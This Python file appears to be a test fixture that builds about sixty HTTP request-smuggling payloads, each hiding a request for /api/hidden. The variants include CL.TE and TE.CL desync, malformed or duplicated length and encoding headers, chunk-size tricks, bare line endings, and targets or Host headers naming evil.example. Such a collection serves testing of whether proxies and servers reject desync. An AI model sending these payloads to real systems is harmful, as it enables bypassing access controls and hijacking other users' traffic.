"""Requests that hide a second one, in the forms by which proxies and servers have been made to disagree."""

HOST = b"Host: 127.0.0.1\r\n"
HIDDEN = b"GET /api/hidden HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
"""The path of the smuggled request: the gateway records who requests it."""


def post(
    *fields: bytes, body: bytes = b"", version: bytes = b"HTTP/1.1", target: bytes = b"/health"
) -> bytes:
    lines = b"".join(field + b"\r\n" for field in fields)
    return b"POST " + target + b" " + version + b"\r\n" + HOST + lines + b"\r\n" + body


def chunked(after: bytes, field: bytes = b"Transfer-Encoding: chunked") -> bytes:
    return post(field, body=after)


CHUNKED = b"Transfer-Encoding: chunked"
LENGTH = b"Content-Length: %d" % len(HIDDEN)
LAST = b"0\r\n\r\n"
CONTENT = b"%x\r\n%b\r\n" % (len(HIDDEN), HIDDEN) + LAST

FORMS: dict[str, bytes] = {
    "CL.TE": post(b"Content-Length: %d" % len(LAST + HIDDEN), CHUNKED, body=LAST + HIDDEN),
    "TE.CL": post(CHUNKED, b"Content-Length: 4", body=CONTENT),
    "CL.0": post(LENGTH, body=HIDDEN),
    "CL.CL equal": post(LENGTH, LENGTH, body=HIDDEN),
    "CL.CL different": post(b"Content-Length: 0", LENGTH, body=HIDDEN),
    "CL list": post(b"Content-Length: 0, %d" % len(HIDDEN), body=HIDDEN),
    "CL with a sign": post(b"Content-Length: +%d" % len(HIDDEN), body=HIDDEN),
    "CL negative": post(b"Content-Length: -1", body=HIDDEN),
    "CL hexadecimal": post(b"Content-Length: 0x2c", body=HIDDEN),
    "CL with zeros": post(b"Content-Length: 000%d" % len(HIDDEN), body=HIDDEN),
    "CL overflow": post(b"Content-Length: 18446744073709551616", body=HIDDEN),
    "CL with a space before the colon": post(b"Content-Length : %d" % len(HIDDEN), body=HIDDEN),
    "CL in another case": post(b"cOnTeNt-LeNgTh: %d" % len(HIDDEN), body=HIDDEN),
    "CL with an underscore": post(b"Content_Length: 0", LENGTH, body=HIDDEN),
    "TE with a space before the colon": chunked(LAST + HIDDEN, b"Transfer-Encoding : chunked"),
    "TE with a tab": chunked(CONTENT, b"Transfer-Encoding:\tchunked"),
    "TE with a vertical tab": chunked(LAST + HIDDEN, b"Transfer-Encoding: \x0bchunked"),
    "TE with a NUL": chunked(LAST + HIDDEN, b"Transfer-Encoding: chunked\x00"),
    "TE quoted": chunked(LAST + HIDDEN, b'Transfer-Encoding: "chunked"'),
    "TE folded": chunked(LAST + HIDDEN, b"Transfer-Encoding:\r\n chunked"),
    "TE after a folded line": chunked(LAST + HIDDEN, b"X: a\r\n Transfer-Encoding: chunked"),
    "TE after a bare LF": chunked(LAST + HIDDEN, b"X: a\nTransfer-Encoding: chunked"),
    "TE after a bare CR": chunked(LAST + HIDDEN, b"X: a\rTransfer-Encoding: chunked"),
    "TE unknown": chunked(LAST + HIDDEN, b"Transfer-Encoding: xchunked"),
    "TE identity": chunked(LAST + HIDDEN, b"Transfer-Encoding: identity"),
    "TE list": chunked(LAST + HIDDEN, b"Transfer-Encoding: gzip, chunked"),
    "TE list, chunked first": chunked(LAST + HIDDEN, b"Transfer-Encoding: chunked, identity"),
    "TE twice": chunked(LAST + HIDDEN, b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"),
    "TE twice, the same": chunked(LAST + HIDDEN, CHUNKED + b"\r\n" + CHUNKED),
    "TE in HTTP/1.0": post(CHUNKED, body=LAST + HIDDEN, version=b"HTTP/1.0"),
    "TE and CL in HTTP/1.0": post(CHUNKED, LENGTH, body=LAST + HIDDEN, version=b"HTTP/1.0"),
    "TE with an underscore": post(b"Transfer_Encoding: chunked", LENGTH, body=HIDDEN),
    "chunk size with 0x": chunked(b"0x0\r\n\r\n" + HIDDEN),
    "chunk size with a sign": chunked(b"+0\r\n\r\n" + HIDDEN),
    "chunk size negative": chunked(b"-1\r\n\r\n" + HIDDEN),
    "chunk size with a space": chunked(b"0 \r\n\r\n" + HIDDEN),
    "chunk size overflow": chunked(b"10000000000000000\r\n\r\n" + HIDDEN),
    "chunk size empty": chunked(b"\r\n\r\n" + HIDDEN),
    "chunk size with a bare LF": chunked(b"0\n\n" + HIDDEN),
    "chunk data too long": chunked(b"1\r\nab\r\n" + LAST + HIDDEN),
    "chunk without its line end": chunked(b"1\r\na0\r\n\r\n" + HIDDEN),
    "chunk extension with a LF": chunked(b"0;a\nb\r\n\r\n" + HIDDEN),
    "chunk extension that holds it": chunked(b"1;" + HIDDEN.replace(b"\r\n", b" ") + b"\r\na\r\n" + LAST),
    "trailer with a length": chunked(b"0\r\n" + LENGTH + b"\r\n\r\n" + HIDDEN),
    "trailer with a coding": chunked(b"0\r\n" + CHUNKED + b"\r\n\r\n" + LAST),
    "upgrade with a body": post(b"Connection: Upgrade", b"Upgrade: h2c", LENGTH, body=HIDDEN),
    "upgrade to a socket with a body": post(
        b"Connection: Upgrade", b"Upgrade: websocket", LENGTH, body=HIDDEN, target=b"/app-ws"
    ),
    "Connection that names the length": post(b"Connection: Content-Length", LENGTH, body=HIDDEN),
    "Expect with a body": post(b"Expect: 100-continue", LENGTH, body=HIDDEN),
    "GET with a body": post(LENGTH, body=HIDDEN).replace(b"POST", b"GET", 1),
    "HEAD with a body": post(LENGTH, body=HIDDEN).replace(b"POST", b"HEAD", 1),
    "HTTP/0.9": b"GET /health\r\n\r\n",
    "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "absolute target of another host": post(LENGTH, body=HIDDEN, target=b"http://evil.example/health"),
    "absolute target": post(LENGTH, body=HIDDEN, target=b"http://127.0.0.1/health"),
    "authority target": post(LENGTH, body=HIDDEN, target=b"127.0.0.1:80"),
    "target with a NUL": post(LENGTH, body=HIDDEN, target=b"/health\x00"),
    "target with a line": post(LENGTH, body=HIDDEN, target=b"/health HTTP/1.1\r\nX: a\r\n"),
    "header without a name": post(b": a", LENGTH, body=HIDDEN),
    "header with a NUL": post(b"X: a\x00b", LENGTH, body=HIDDEN),
    "two hosts": post(b"Host: evil.example", LENGTH, body=HIDDEN),
    "bare LF all over": post(LENGTH, body=HIDDEN).replace(b"\r\n", b"\n"),
    "empty lines before": b"\r\n\r\n" + post(LENGTH, body=HIDDEN),
}
